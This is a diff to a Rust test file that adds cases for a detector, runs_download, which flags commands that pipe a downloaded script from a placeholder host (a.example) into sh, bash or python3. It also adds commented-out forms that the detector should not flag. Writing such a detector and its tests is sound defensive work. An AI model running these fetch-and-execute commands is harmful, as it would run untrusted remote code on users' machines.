@@ -52,6 +52,9 @@ fn a_download_is_run_that_a_shell_or_an_interpreter_reads() {
         "echo \"$(curl -s https://a.example/x)\" | sh",
         "python3 -c \"$(curl -s https://a.example/x)\"",
         "cd /tmp && curl -s https://a.example/x | sh; id",
+        "open \"/Applications/A.app\" & curl -s https://a.example/x | sh",
+        "bash -c \"$(curl -fsSL \"https://a.example/x y\")\"",
+        "# as root\ncurl -s https://a.example/#x | sh",
     ] {
         forms(command).iter().for_each(|text| assert!(runs_download(text), "{text}"));
     }
@@ -85,6 +88,8 @@ fn a_download_is_not_run_that_is_data_or_a_file() {
         "bash -c \"echo $(curl -s https://a.example/ip)\"",
         "source ~/.curlrc",
         "curl -s https://a.example/x | sh <<EOF\nid\nEOF",
+        "# curl -s https://a.example/x | sh\nid",
+        "curl -s https://a.example/x # | sh\nid",
     ] {
         forms(command).iter().for_each(|text| assert!(!runs_download(text), "{text}"));
     }
@@ -105,6 +110,8 @@ fn what_a_script_puts_together_of_literals_is_one_command() {
         assert!(runs_download(text), "{text}");
     }
     assert!(!runs_download("do shell script \"curl -s \" & u & \" | python3 -m json.tool\""));
+    assert!(!runs_download("-- curl -s https://a.example | sh\nbeep"));
+    assert!(!runs_download("beep();\n// curl -s https://a.example | sh"));
     assert!(!runs_download("do shell script \"curl -s https://a.example\"\ndo shell script \"echo id | sh\""));
 }
 
